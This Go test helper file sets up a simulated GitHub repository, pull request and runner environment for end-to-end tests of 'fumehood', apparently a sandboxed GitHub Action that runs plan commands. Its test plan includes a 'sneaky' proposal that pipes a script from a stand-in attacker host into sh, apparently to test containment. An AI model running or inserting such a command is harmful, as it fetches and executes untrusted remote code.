// SPDX-License-Identifier: Apache-2.0

//go:build linux

package main

import (
	"archive/zip"
	"bytes"
	"encoding/json"
	"fmt"
	"io/fs"
	"maps"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/fumehood/fumehood/pkg/github/githubtest"
	githubdata "github.com/fumehood/fumehood/testdata/github"
)

const (
	hub      = "Codertocat/Hello-World"
	hubID    = 186853002
	forkRepo = "octocat/Hello-World"
	forkID   = 999
	prNumber = 2
	jobToken = "ghs_ThisIsTheTokenOfTheJob000000000000000"
)

// The files of an artifact.
const (
	planName   = "plan"
	reportName = "report.json"
	auditName  = "audit.jsonl"
)

// A world is GitHub with one repository, one pull request and its code.
type world struct {
	t      testing.TB
	gh     *githubtest.Server
	git    *githubtest.GitServer
	dir    string
	repo   string // the bare repository
	binary string
	cache  string
	base   string
	head   string
	fork   bool
	runID  int64
	actor  string       // the user who caused the run
	ahead  atomic.Int64 // how far GitHub's clock is ahead of this machine's
	said   string       // log of the last step that has ended
}

// The files of the repository at the base commit, and those that the pull request
// changes.
var (
	baseFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello\n"}
	headFiles = map[string]string{"README.md": "Hello\n", "greet.sh": "echo hello world\n", "notes/new.txt": "one\ntwo\n"}
)

const goodPlan = `schema: fumehood.plan/v1
proposer: reviewer
proposals:
  - id: count
    run: grep -c o notes/new.txt
  - id: fails
    run: grep -q nothing README.md
  - id: sneaky
    run: curl -s https://evil.example/x.sh | sh
`

// brief are the tests of worlds that run with -short: the most common uses of the action.
var brief = []string{"TestActionSameRepository", "TestActionFork", "TestE2EBotFork", "TestE2EBotEditedComment", "TestE2EActionHeadMovedBefore"}

// newWorld makes a world; base and head are added to the files of those commits.
func newWorld(t testing.TB, fork bool, base, head map[string]string) *world {
	t.Helper()
	if !slices.Contains(brief, t.Name()) {
		long(t)
	}
	w := &world{t: t, dir: t.TempDir(), binary: fumehood(t), cache: builtCache(t), fork: fork, runID: 1000}
	// The sandbox's supervisor checks every parent directory of the paths it is given.
	if err := os.Chmod(w.dir, 0o755); err != nil {
		t.Fatal(err)
	}
	root := filepath.Join(w.dir, "git")
	w.repo = filepath.Join(root, hub+".git")
	w.gh = githubtest.New(t, githubtest.Options{Repository: hub, ID: hubID, Git: w.repo, Now: w.now})
	w.gh.AddRepository(githubtest.Repository{Name: forkRepo, ID: forkID, Fork: true})
	w.copyRepository(w.repo, merged(baseFiles, base), merged(headFiles, base, head))
	w.git = githubtest.NewGitServer(t, root)
	w.git.Require("", jobToken)
	head1 := githubtest.Ref{SHA: w.head, Ref: "changes", Repository: hub}
	if fork {
		head1.Repository = forkRepo
	}
	w.gh.AddPR(githubtest.PR{Number: prNumber, Author: "octocat", Head: head1, Base: githubtest.Ref{SHA: w.base, Ref: "master", Repository: hub}})
	w.gh.Permit("Codertocat", "admin")
	w.gh.Permit("octocat", "read")
	w.permit("contents:read", "pull_requests:write", "actions:read")
	return w
}

// A seed is a bare repository with a base and a head commit. Worlds with the same
// files use copies of it: the commits have a fixed date, so the ids are the same.
type seed struct {
	once            sync.Once
	dir, base, head string
}

var seeds sync.Map // by the files

// copyRepository creates a repository for w at dir.
func (w *world) copyRepository(dir string, base, head map[string]string) {
	w.t.Helper()
	made, _ := seeds.LoadOrStore(fmt.Sprint(base, head), &seed{})
	s := made.(*seed)
	s.once.Do(func() { w.plantSeed(s, base, head) })
	if s.head == "" {
		w.t.Fatal("the test that made this repository failed")
	}
	if err := os.CopyFS(dir, os.DirFS(s.dir)); err != nil {
		w.t.Fatal(err)
	}
	w.base, w.head = s.base, s.head
}

func (w *world) plantSeed(s *seed, base, head map[string]string) {
	w.t.Helper()
	var err error
	if s.dir, err = os.MkdirTemp(shared, "seed-"); err != nil {
		w.t.Fatal(err)
	}
	w.gitIn("", "init", "-q", "--bare", "--template=", "-b", "master", s.dir)
	s.base = w.commit(s.dir, "base", "", base)
	last := w.commit(s.dir, "head", s.base, head)
	w.gitIn(s.dir, "update-ref", "refs/heads/master", s.base)
	w.gitIn(s.dir, "update-ref", fmt.Sprintf("refs/pull/%d/head", prNumber), last)
	s.head = last
}

func merged(maps ...map[string]string) map[string]string {
	all := map[string]string{}
	for _, m := range maps {
		for k, v := range m {
			all[k] = v
		}
	}
	return all
}

// permit sets the permissions of the job's token.
func (w *world) permit(permissions ...string) { w.gh.AddWorkflowToken(jobToken, permissions...) }

func (w *world) gitIn(repo string, args ...string) string {
	w.t.Helper()
	if repo != "" {
		args = append([]string{"--git-dir=" + repo}, args...)
	}
	cmd := exec.Command("git", args...)
	cmd.Env = append(os.Environ(), "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1",
		"GIT_AUTHOR_NAME=octocat", "GIT_AUTHOR_EMAIL=octocat@example.com", "GIT_COMMITTER_NAME=octocat", "GIT_COMMITTER_EMAIL=octocat@example.com",
		"GIT_AUTHOR_DATE=2026-11-01T00:00:00Z", "GIT_COMMITTER_DATE=2026-11-01T00:00:00Z")
	out, err := cmd.CombinedOutput()
	if err != nil {
		w.t.Fatalf("git %q: %v\n%s", args, err, out)
	}
	return strings.TrimSpace(string(out))
}

// commit writes files as a commit without a work tree, so that any name is possible.
func (w *world) commit(repo, message, parent string, files map[string]string) string {
	w.t.Helper()
	work := filepath.Join(w.t.TempDir(), "tree")
	for name, text := range files {
		path := filepath.Join(work, name)
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			w.t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(text), 0o644); err != nil {
			w.t.Fatal(err)
		}
	}
	w.gitIn(repo, "--work-tree="+work, "add", "-A", "-f", ".")
	tree := w.gitIn(repo, "write-tree")
	args := []string{"commit-tree", tree, "-m", message}
	if parent != "" {
		args = append(args, "-p", parent)
	}
	return w.gitIn(repo, args...)
}

// push adds a commit with files to a branch, which is made from the base commit if it does not
// exist. It returns the commit.
func (w *world) push(branch string, files map[string]string) string {
	w.t.Helper()
	tip, all := w.base, merged(baseFiles)
	if refs := w.gitIn(w.repo, "for-each-ref", "--format=%(objectname)", "refs/heads/"+branch); refs != "" {
		tip = refs
		for _, name := range strings.Fields(w.gitIn(w.repo, "ls-tree", "-r", "--name-only", tip)) {
			all[name] = w.gitIn(w.repo, "cat-file", "blob", tip+":"+name) + "\n"
		}
	}
	sha := w.commit(w.repo, "push", tip, merged(all, files))
	w.gitIn(w.repo, "update-ref", "refs/heads/"+branch, sha)
	return sha
}

// event returns one of GitHub's payloads, changed to match this world.
func (w *world) event(name string, change func(map[string]any)) []byte {
	w.t.Helper()
	var payload map[string]any
	if err := json.Unmarshal(githubdata.Event(name), &payload); err != nil {
		w.t.Fatal(err)
	}
	if pr, ok := payload["pull_request"].(map[string]any); ok {
		pr["head"].(map[string]any)["sha"] = w.head
		pr["base"].(map[string]any)["sha"] = w.base
		pr["user"] = map[string]any{"login": "octocat", "id": 583231, "type": "User"}
	}
	if run, ok := payload["workflow_run"].(map[string]any); ok {
		repo := map[string]any{"id": hubID, "full_name": hub}
		if w.fork {
			repo = map[string]any{"id": forkID, "full_name": forkRepo}
		}
		run["id"], run["head_sha"], run["head_branch"], run["head_repository"] = w.runID, w.head, "changes", repo
		payload["repository"].(map[string]any)["id"], payload["repository"].(map[string]any)["full_name"] = hubID, hub
	}
	if change != nil {
		change(payload)
	}
	data, err := json.Marshal(payload)
	if err != nil {
		w.t.Fatal(err)
	}
	return data
}

// A step is the result of one run of the action.
type step struct {
	code    int
	log     string
	outputs map[string]string
	summary string
	temp    string
}

// act runs fumehood action as the runner would, without the runner.
func (w *world) act(event string, payload []byte, env ...string) step {
	w.t.Helper()
	cmd, s := w.start(event, payload, env...)
	var log bytes.Buffer
	cmd.Stdout, cmd.Stderr = &log, &log
	if err := cmd.Run(); err != nil && cmd.ProcessState == nil {
		w.t.Fatal(err)
	}
	return w.finish(s, cmd.ProcessState.ExitCode(), log.String())
}

func (w *world) start(event string, payload []byte, env ...string) (*exec.Cmd, step) {
	w.t.Helper()
	temp, err := os.MkdirTemp(w.dir, "runner-")
	if err != nil {
		w.t.Fatal(err)
	}
	s := step{temp: temp}
	for name, data := range map[string]string{"event.json": string(payload), "output": "", "summary": ""} {
		if err := os.WriteFile(filepath.Join(temp, name), []byte(data), 0o644); err != nil {
			w.t.Fatal(err)
		}
	}
	if err := os.MkdirAll(filepath.Join(temp, "workspace"), 0o755); err != nil {
		w.t.Fatal(err)
	}
	w.runID++
	w.addRun(event, "success")
	cmd := exec.Command(w.binary, "action")
	cmd.Env = append([]string{
		"PATH=" + os.Getenv("PATH"), "HOME=" + temp, "FUMEHOOD_CACHE=" + w.cache,
		"GITHUB_ACTIONS=true", "GITHUB_REPOSITORY=" + hub, "GITHUB_SERVER_URL=" + w.git.URL, "GITHUB_API_URL=" + w.gh.URL,
		"GITHUB_EVENT_NAME=" + event, "GITHUB_EVENT_PATH=" + filepath.Join(temp, "event.json"), "GITHUB_WORKSPACE=" + filepath.Join(temp, "workspace"),
		"GITHUB_WORKFLOW=fumehood", "GITHUB_WORKFLOW_REF=" + hub + "/.github/workflows/fumehood.yml@refs/heads/master", "GITHUB_JOB=fumehood", "GITHUB_SHA=" + w.base, "GITHUB_RUN_NUMBER=" + fmt.Sprint(w.runID), "GITHUB_RUN_ID=" + fmt.Sprint(w.runID),
		"GITHUB_RUN_ATTEMPT=1", "GITHUB_OUTPUT=" + filepath.Join(temp, "output"), "GITHUB_STEP_SUMMARY=" + filepath.Join(temp, "summary"),
		"RUNNER_TEMP=" + temp, "RUNNER_OS=Linux", "RUNNER_ARCH=X64", "RUNNER_ENVIRONMENT=github-hosted",
		"INPUT_GITHUB_TOKEN=" + jobToken, "INPUT_PLAN=" + goodPlan, "INPUT_ARTIFACT=fumehood",
		"INPUT_COMPARE_BASE=false", // the plan's failure is not the pull request's: see TestActionBase
	}, env...)
	return cmd, s
}

func (w *world) finish(s step, code int, log string) step {
	w.t.Helper()
	s.code, s.log, w.said = code, log, log
	summary, err := os.ReadFile(filepath.Join(s.temp, "summary"))
	if err != nil {
		w.t.Fatal(err)
	}
	data, err := os.ReadFile(filepath.Join(s.temp, "output"))
	if err != nil {
		w.t.Fatal(err)
	}
	s.summary, s.outputs = string(summary), parseOutputs(w.t, string(data))
	return s
}

// parseOutputs parses the file as the runner does: NAME<<DELIMITER, lines, DELIMITER.
func parseOutputs(t testing.TB, text string) map[string]string {
	t.Helper()
	outputs := map[string]string{}
	lines := strings.Split(strings.TrimSuffix(text, "\n"), "\n")
	for i := 0; i < len(lines) && text != ""; i++ {
		name, delimiter, ok := strings.Cut(lines[i], "<<")
		if !ok {
			t.Fatalf("output line %q", lines[i])
		}
		var value []string
		for i++; lines[i] != delimiter; i++ {
			value = append(value, lines[i])
		}
		outputs[name] = strings.Join(value, "\n")
	}
	return outputs
}

// comment returns the bot's only comment, and fails unless there is exactly one.
func (w *world) comment() githubtest.Comment {
	w.t.Helper()
	list := w.gh.CommentsBy(prNumber, githubtest.ActionsBot)
	if len(list) != 1 {
		w.t.Fatalf("%d comments by the bot, want one; the last step said:\n%s", len(list), w.said)
	}
	return list[0]
}

// want fails if text lacks one of the pieces.
func want(t testing.TB, what, text string, pieces ...string) {
	t.Helper()
	for _, p := range pieces {
		if !strings.Contains(text, p) {
			t.Errorf("%s lacks %q:\n%s", what, p, text)
		}
	}
}

// upload does what the action's second step does: it makes the step's artifact an
// artifact of the run.
func (w *world) upload(s step, change func(map[string][]byte)) int64 {
	w.t.Helper()
	if s.outputs["artifact-path"] == "" {
		w.t.Fatalf("the step has no artifact: %q\n%s", s.outputs, s.log)
	}
	files := map[string][]byte{}
	err := filepath.WalkDir(s.outputs["artifact-path"], func(path string, d fs.DirEntry, err error) error {
		if err != nil || d.IsDir() {
			return err
		}
		name, err := filepath.Rel(s.outputs["artifact-path"], path)
		if err == nil {
			files[name], err = os.ReadFile(path)
		}
		return err
	})
	if err != nil {
		w.t.Fatal(err)
	}
	if change != nil {
		change(files)
	}
	return w.gh.AddArtifact(githubtest.Artifact{Run: w.runID, Name: s.outputs["artifact-name"], Data: zipped(w.t, files)})
}

func zipped(t testing.TB, files map[string][]byte) []byte {
	t.Helper()
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(files)) {
		f, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		if _, err := f.Write(files[name]); err != nil {
			t.Fatal(err)
		}
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// addRun adds the last run to the API. Only one started by a pull request is a run
// of its code.
func (w *world) addRun(event, conclusion string) {
	run := githubtest.Run{ID: w.runID, Number: int(w.runID), Attempt: 1, Event: event, HeadSHA: w.base, HeadBranch: "master",
		HeadRepository: hub, Conclusion: conclusion, Path: ".github/workflows/fumehood.yml", Name: "fumehood", Actor: w.actor}
	if event == "pull_request" {
		run.HeadSHA, run.HeadBranch = w.head, "changes"
		if w.fork {
			run.HeadRepository = forkRepo
		}
	}
	w.gh.AddRun(run)
}

// report runs the workflow_run workflow for the last run.
func (w *world) report(change func(map[string]any), env ...string) step {
	w.t.Helper()
	name := "workflow_run.completed.pr"
	if w.fork {
		name += ".fork"
	}
	ran := w.runID
	s := w.act("workflow_run", w.event(name, change), env...)
	w.runID = ran
	return s
}

// ask adds a comment by login to the pull request, and runs the bot on it.
func (w *world) ask(login, body string, env ...string) step {
	w.t.Helper()
	id := w.gh.AddComment(prNumber, login, body)
	w.actor = login
	return w.act("issue_comment", w.commentEvent(id), env...)
}

func (w *world) commentEvent(id int64) []byte {
	w.t.Helper()
	var c githubtest.Comment
	for _, each := range w.gh.Comments(prNumber) {
		if each.ID == id {
			c = each
		}
	}
	return w.event("issue_comment.created.pr", func(p map[string]any) {
		user := map[string]any{"login": c.Author, "id": w.gh.UserID(c.Author), "type": accountType(c.Author)}
		comment := p["comment"].(map[string]any)
		comment["id"], comment["body"], comment["user"] = c.ID, c.Body, user
		comment["created_at"], comment["updated_at"] = c.Created.UTC().Format(time.RFC3339), c.Created.UTC().Format(time.RFC3339)
		p["sender"] = user
	})
}

func accountType(login string) string {
	if strings.HasSuffix(login, "[bot]") {
		return "Bot"
	}
	return "User"
}

func (w *world) now() time.Time { return time.Now().Add(time.Duration(w.ahead.Load())) }

// later advances GitHub's clock, which counts seconds.
func (w *world) later() { w.ahead.Add(int64(2 * time.Second)) }

// group is the event of a merge queue that tests the world's head.
func (w *world) group(change func(map[string]any)) []byte {
	return w.event("merge_group.checks_requested", func(p map[string]any) {
		p["repository"].(map[string]any)["id"] = hubID
		p["merge_group"] = map[string]any{"head_sha": w.head, "base_sha": w.base, "base_ref": "refs/heads/master",
			"head_ref": "refs/heads/gh-readonly-queue/master/pr-2-" + w.base}
		if change != nil {
			change(p)
		}
	})
}
